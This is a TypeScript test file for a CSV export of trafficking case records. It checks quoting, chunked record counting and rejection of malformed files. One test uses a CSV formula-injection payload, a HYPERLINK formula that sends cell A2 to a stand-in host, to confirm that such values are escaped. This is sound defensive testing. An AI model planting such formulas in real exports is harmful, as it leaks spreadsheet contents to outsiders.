import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { CsvRecordCounter, formatBatch } from './export.format.ts';

const columns = ['dawn_CaseKind', 'cas_ReasonForCaseClosure', 'vic_AgeWhenTrafficked'];

/** Feeds the text in pieces of `size` bytes, so a quote or a line break falls across pieces. */
const count = (text: string, size: number) => {
  const bytes = Buffer.from(text, 'utf8');
  const counter = new CsvRecordCounter();
  for (let start = 0; start < bytes.length; start += size) {
    counter.push(bytes.subarray(start, start + size));
  }
  return counter.end();
};

// Issue 16: the donor's HTCDS file is checked after it is written; the check must count what a
// CSV reader reads and refuse what it would refuse, whatever the free text in a closure reason.
describe('the CSV an export writes and the check that reads it back', () => {
  it('writes RFC 4180: quotes only a cell with a comma, quote or line break; empty for none', () => {
    const text = formatBatch(
      [
        {
          dawn_CaseKind: 'care',
          cas_ReasonForCaseClosure: 'Moved, "safe"',
          vic_AgeWhenTrafficked: 15,
        },
        {
          dawn_CaseKind: 'legal',
          cas_ReasonForCaseClosure: 'line\r\nbreak',
          vic_AgeWhenTrafficked: null,
        },
        { dawn_CaseKind: 'care', cas_ReasonForCaseClosure: '', vic_AgeWhenTrafficked: 0 },
      ],
      columns,
      'csv',
      true,
    );
    expect(text).toBe(
      'dawn_CaseKind,cas_ReasonForCaseClosure,vic_AgeWhenTrafficked\r\n' +
        'care,"Moved, ""safe""",15\r\n' +
        'legal,"line\r\nbreak",\r\n' +
        'care,,0\r\n',
    );
  });

  it('writes text a spreadsheet would run as a formula as text; numbers stay numbers', () => {
    // Free text reaches the file (a place's state, a closure reason): a partner opens it in Excel.
    const text = formatBatch(
      [
        {
          dawn_CaseKind: '=HYPERLINK("http://example.invalid/?"&A2,"Open")',
          cas_ReasonForCaseClosure: '-2+3',
          vic_AgeWhenTrafficked: -1,
        },
        { dawn_CaseKind: '@SUM(1)', cas_ReasonForCaseClosure: '-3.5', vic_AgeWhenTrafficked: 16 },
      ],
      columns,
      'csv',
      false,
    );
    expect(text).toBe(
      '"\'=HYPERLINK(""http://example.invalid/?""&A2,""Open"")",\'-2+3,-1\r\n' +
        "'@SUM(1),-3.5,16\r\n",
    );
  });

  it('counts the records a CSV reader reads, in any pieces', () => {
    const files = [
      'a,b\r\ncare,x\r\nlegal,"y, z"\r\n',
      'a,b\r\ncare,"say ""no"""\r\nlegal,"two\r\nlines"\r\n',
      'a,b\ncare,x\nlegal,y',
      'a,b\r\n,\r\n"",""\r\n',
      'a\r\n',
      '',
    ];
    for (const file of files) {
      const expected = parse(file).length;
      for (const size of [1, 2, 3, 7, 1 << 20]) expect(count(file, size), file).toBe(expected);
    }
  });

  it('refuses what a CSV reader refuses: a cell too many or too few, broken quotes', () => {
    const broken = [
      'a,b\r\ncare,x,y\r\n',
      'a,b\r\ncare\r\n',
      'a,b\r\ncare,x"y\r\n',
      'a,b\r\ncare,"x"y\r\n',
      'a,b\r\ncare,"never closed\r\n',
    ];
    for (const file of broken) {
      expect(() => parse(file), file).toThrow();
      for (const size of [1, 3, 1 << 20]) {
        expect(() => count(file, size), file).toThrow(/not a well-formed CSV/);
      }
    }
  });
});
